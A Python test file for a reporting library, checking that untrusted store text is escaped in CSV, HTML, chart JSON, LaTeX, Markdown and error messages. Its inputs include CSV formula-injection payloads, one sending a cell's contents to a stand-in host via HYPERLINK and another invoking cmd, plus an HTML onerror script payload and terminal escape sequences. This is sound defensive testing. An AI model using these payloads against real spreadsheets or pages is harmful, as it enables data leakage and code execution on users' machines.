"""Texts of a store are untrusted input, and no program that opens a report executes them."""

import csv
import io
from dataclasses import replace

import pytest

from reports.cells import Column, Counts, Row, Table, Text, Value
from reports.charts import adapt_style_to_page, make_study_charts, to_safe_json
from reports.errors import ReportError
from reports.render import format_tables_as_latex
from reports.render.files import format_report, make_report_files
from reports.render.markup import escape_markdown
from reports.render.page import render_report_page, render_table
from reports.render.spreadsheet import format_csv
from reports.report import Report, make_report
from reports.stats import Estimate
from reports.study.load import load_records
from tests.case_files import load_cases
from tests.reports.builder import StoreBuilder, make_scores
from tests.reports.studies import make_factors

ELEMENT = "<img src=x onerror=alert(1)>"
FORMULAS = (
    '=HYPERLINK("http://x.test?"&A1,"y")', "+1+cmd|' /C calc'!A0", "-1+1|x", "@SUM(A1)",
    "\t=1+1", "＝1+1",
)  # fmt: skip


def make_table(label: str, heading: str = "level") -> Table:
    """Return a table of two equal rows. Its numbers are negative, which is no formula."""
    columns = (Column("level", heading, align="left"), Column("n", "n"), Column("new", "New"))
    new = Value(Estimate(-1.5, -2.0, None, 1))
    row = Row({"level": Text(label), "n": Counts(1), "new": new})
    return Table("x", "x", columns, (row, row), (label,))


def make_one_factor_report(levels: list[str], name: str = "study", reason: str = "") -> Report:
    """Return the report of a study of one factor with these levels, and with a failed run."""
    builder = StoreBuilder(name=name, factors=make_factors("backbone", levels, levels[0]))
    for position, level in enumerate(levels):
        builder.add_run(
            {"backbone": level}, {seed: make_scores(60 + position + seed) for seed in (0, 1)}
        )
    builder.add_run({"backbone": levels[0]}, {2: make_scores(1)}, state="FAIL", reason=reason)
    return make_report(builder.make_study())


def test_no_cell_of_a_csv_is_a_formula() -> None:
    """Cells and headings that could be formulas begin with an apostrophe."""
    report = make_one_factor_report([*FORMULAS, "b"], reason=FORMULAS[0])
    texts = [
        data.decode() for name, data in make_report_files(report).items() if name.endswith(".csv")
    ]
    texts += [format_report("csv", report)]
    texts += [format_csv(make_table("x", heading=formula)) for formula in FORMULAS]
    cells = {cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row}
    assert {f"'{formula}" for formula in FORMULAS} <= cells
    assert cells.isdisjoint(FORMULAS)


def test_numbers_of_a_csv_stay_numbers() -> None:
    """A minus sign does not make a number a formula."""
    (first, _) = csv.DictReader(io.StringIO(format_csv(make_table("-4"))))
    assert (first["level"], first["new_mean"], first["new_low"]) == ("-4", "-1.5", "-2.0")


@pytest.mark.parametrize("text", ["{{" + ELEMENT + "}} " + ELEMENT, ELEMENT, "{{x}}"])
def test_a_heading_is_no_element_of_the_page(text: str) -> None:
    """Headings are escaped, even if they contain braces."""
    html = render_table(make_table(text, heading=text)).replace("&#123;", "{")
    assert "<img" not in html
    assert html.count(text.replace("<", "&lt;").replace(">", "&gt;")) == 3


def test_a_page_has_no_control_characters() -> None:
    """Control characters and direction marks are escaped in all texts, tables and charts."""
    text = "a\x00b\x1b[2Jc\u202ed"
    report = make_one_factor_report([text, "b", "c"], reason=text)
    report = replace(report, study=replace(report.study, description=text, versions={"x": text}))
    specs = to_safe_json([adapt_style_to_page(chart.spec) for chart in make_study_charts(report)])
    page = render_report_page(report)
    for output in (specs, page, render_table(make_table(text, heading=text))):
        assert not set("\x00\x1b\u202e") & set(output)
        assert "\\u202ed" in output
    assert page.count(r"a\x00b\x1b[2Jc\u202ed") >= 5
    assert r"\\x00b\\x1b[2Jc\\u202ed" in specs  # escaped in JSON


@pytest.mark.parametrize("label", ["[1, 2]", "*", " [x"])
def test_latex_does_not_parse_a_label_as_an_argument(label: str) -> None:
    """After a line break, a bracket would start an argument, and a star would belong to it."""
    text = "".join(format_tables_as_latex([make_table(label, heading=f"a / {label}")]).split())
    assert r"\\[" not in text.replace(r"\\[-2pt]", "") and r"\\*" not in text
    assert text.count("{}" + "".join(label.split())) >= 2


@pytest.mark.parametrize(("text", "escaped"), load_cases(__file__, "markdown.yaml"))
def test_markdown_shows_a_text_as_it_is(text: str, escaped: str) -> None:
    """A text becomes no heading, list, emphasis, element, entity or formula."""
    assert escape_markdown(text) == escaped


def test_messages_show_names_of_the_store_as_text(store_uri: str) -> None:
    """The error lists the names of studies, which may have control characters."""
    uri = StoreBuilder(name="a\x1b[2Jb\nc").write(store_uri)
    with pytest.raises(ReportError) as error:
        load_records("none", uri)
    assert str(error.value).isprintable() and r"\x1b[2J" in str(error.value)
